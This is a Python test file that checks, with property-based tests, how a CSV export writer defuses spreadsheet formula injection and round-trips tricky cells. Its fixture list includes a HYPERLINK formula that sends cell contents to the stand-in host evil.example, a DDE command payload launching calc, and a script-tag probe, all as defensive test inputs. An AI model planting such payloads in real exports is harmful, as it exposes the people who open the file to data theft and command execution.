"""Properties of the CSV writer every export streams through (config/api.py).

Whatever the cells hold, the CSV parses back to the same rows and columns; a cell a
spreadsheet would run as a formula is defused with a leading quote; every other cell comes
back exactly, commas, quotes and line breaks included; and how rows are split into chunks
never changes the text.
"""

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from config import api
from config.api import FORMULA_PREFIXES, csv_lines, csv_response, neutralise

FAST = settings(max_examples=100, deadline=None)

# What spreadsheets treat as the start of a formula (OWASP's list: = + - @ tab CR).
DANGEROUS = {"=", "+", "-", "@", "\t", "\r"}

# Cells that look like what curators and attackers write, and anything at all.
tricky = st.sampled_from(
    [
        "",
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "'already quoted",
        'a "quoted" word',
        "comma, inside",
        "line\nbreak",
        "cr\r\nlf",
        "<script>alert(1)</script>",
        "\u202eevil",
        "\ufeffbom",
        "a\x00b",
        " =not a formula (leading space)",
    ]
)
cells = st.one_of(st.text(), tricky, st.text(alphabet="=+-@\t\r\n,\"' ab", max_size=6))
rows = st.lists(st.lists(cells, min_size=1, max_size=6), max_size=8)


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "the BOM makes spreadsheets read UTF-8"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def expected_cell(cell: str) -> str:
    return "'" + cell if cell[:1] in DANGEROUS else cell


def test_the_module_defuses_the_owasp_prefixes():
    """The properties below use their own list, so a prefix dropped from the module fails."""
    assert set(FORMULA_PREFIXES) == DANGEROUS


@FAST
@given(st.lists(st.text(alphabet="abc_", min_size=1, max_size=8), min_size=1, max_size=5), rows)
def test_csv_parses_back_to_the_same_rows_and_cells(header, body):
    # Rows may be ragged: the writer must not pad or cut them.
    text = "".join(csv_lines(header, body))
    parsed = parse(text)
    assert parsed[0] == header
    assert len(parsed) == len(body) + 1
    assert [len(row) for row in parsed[1:]] == [len(row) for row in body]
    for written, read in zip(body, parsed[1:], strict=True):
        assert read == [expected_cell(cell) for cell in written]


@FAST
@given(rows)
def test_no_parsed_cell_starts_a_formula(body):
    parsed = parse("".join(csv_lines(["a"], body)))
    for row in parsed[1:]:
        for cell in row:
            assert cell[:1] not in DANGEROUS, cell


@FAST
@given(cells)
def test_neutralise_adds_one_quote_to_a_formula_and_nothing_else(cell):
    out = neutralise(cell)
    if cell[:1] in DANGEROUS:
        assert out == "'" + cell
    else:
        assert out == cell


class Label(str):
    """A str subclass (like a TextChoices member or a SafeString): the slow path."""


@FAST
@given(cells)
def test_a_str_subclass_is_neutralised_like_a_plain_str(cell):
    assert neutralise(Label(cell)) == neutralise(cell)
    assert neutralise(Label(cell)).__class__ is str


@FAST
@given(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        st.dates(),
        st.lists(cells, max_size=4),
        st.tuples(cells, cells),
    )
)
def test_other_values_become_text_and_are_defused_too(value):
    out = neutralise(value)
    assert isinstance(out, str)
    if value is None:
        assert out == ""
    elif isinstance(value, bool):
        assert out == ("true" if value else "false")
    elif isinstance(value, list | tuple):
        assert out == expected_cell("; ".join(value))  # a list is one cell, "; "-separated
    else:
        assert out == expected_cell(str(value))  # a negative number is quoted as well


@FAST
@given(rows, st.integers(1, 4))
def test_chunking_never_changes_the_text(body, chunk_size):
    whole = "".join(csv_lines(["h"], body))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(api, "ROWS_PER_CHUNK", chunk_size)
        chunks = list(csv_lines(["h"], body))
    assert "".join(chunks) == whole
    # One chunk for the header, then one per chunk_size rows, each ending at a row's end.
    assert len(chunks) == 1 + -(-len(body) // chunk_size)
    assert all(chunk.endswith("\r\n") for chunk in chunks)


@FAST
@given(rows)
def test_the_streamed_response_is_the_same_csv_as_an_attachment(body):
    response = csv_response("atlas-export", ["a", "b"], body)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="atlas-export.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text == "".join(csv_lines(["a", "b"], body))
    parsed = parse(text)
    assert parsed[1:] == [[expected_cell(c) for c in row] for row in body]


def test_dates_and_numbers_are_written_plainly():
    text = "".join(csv_lines(["d", "n", "b"], [[date(2020, 9, 8), 3, True]]))
    assert parse(text)[1] == ["2020-09-08", "3", "true"]
